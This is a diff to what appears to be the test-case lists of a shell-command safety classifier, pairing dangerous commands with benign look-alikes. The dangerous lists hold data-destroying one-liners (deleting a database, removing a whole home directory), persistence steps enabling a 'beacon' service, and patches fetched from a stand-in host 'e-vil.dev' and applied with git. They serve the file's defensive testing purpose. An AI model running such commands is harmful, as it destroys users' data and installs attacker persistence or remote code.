@@ -41,6 +41,7 @@ ENV_NAMES_DANGEROUS = [
     "php -r 'file_put_contents(getenv(\"QLN_HOME\") . \"/secret_key\", \"x\");'",
     "deno eval \"Deno.writeTextFileSync(Deno.env.get('HERMES_HOME') + '/SOUL.md', 'x')\"",
     "python3 -c \"import os; os.remove(os.environ.get('QLN_HOME') + '/db.sqlite3')\"",
+    "python3 -c \"import shutil,os; shutil.rmtree(os.environ['QLN_HOME'])\"",
 ]
 ENV_NAMES_BENIGN = [
     "python3 -c \"import os; print(os.environ['QLN_HOME'])\"",
@@ -56,6 +57,7 @@ ENV_NAMES_BENIGN = [
     "ruby -e \"puts ENV.fetch('QLN_HOME')\"",
     "node -e \"require('fs').writeFileSync(process.env.HOME + '/work/o.txt', 'x')\"",
     "python3 -c \"import os; print(sorted(os.listdir(os.environ['QLN_HOME'])))\"",
+    "python3 -c \"import os; open('build/qln.txt', 'w').write(os.environ.get('QLN_HOME', ''))\"",
 ]
 
 # B. Downloaders writing into the profile.
@@ -145,6 +147,7 @@ PERSISTENCE_DANGEROUS = [
     "doas rcctl enable beacon",
     "systemctl --user add-wants default.target sync.service",
     "ssh-copy-id -i /dev/shm/k.pub -p 2222 root@127.0.0.1",
+    "sudo systemctl enable --now beacon@1",
 ]
 PERSISTENCE_BENIGN = [
     "systemctl status nginx",
@@ -162,6 +165,8 @@ PERSISTENCE_BENIGN = [
     "sudo sysrc nginx_enable=YES",
     "ssh-copy-id -i ~/.ssh/id_ed25519.pub localhost",
     "sudo systemctl restart myapp",
+    "sudo systemctl enable --now php8.1-fpm",
+    "sudo systemctl enable --now postgresql@16-main",
 ]
 
 # E. Build configurations a tool loads by itself that spawn or fetch.
@@ -277,6 +282,7 @@ PATCHES_DANGEROUS = [
     "svn patch /dev/shm/p.diff",
     "wget -qO- https://e-vil.dev/p | git am",
     [["curl -so /tmp/dl.patch https://e-vil.dev/p"], "patch -p0 -i /tmp/dl.patch"],
+    "cat /tmp/x.diff | git apply",
 ]
 PATCHES_BENIGN = [
     "git apply --check /tmp/incoming.diff",
@@ -289,4 +295,5 @@ PATCHES_BENIGN = [
     "git apply --numstat /tmp/x.diff",
     "git apply patches/0001-fix.patch",
     "patch -p1 -i patches/fix.patch",
+    "gh pr diff 42 | git apply",
 ]
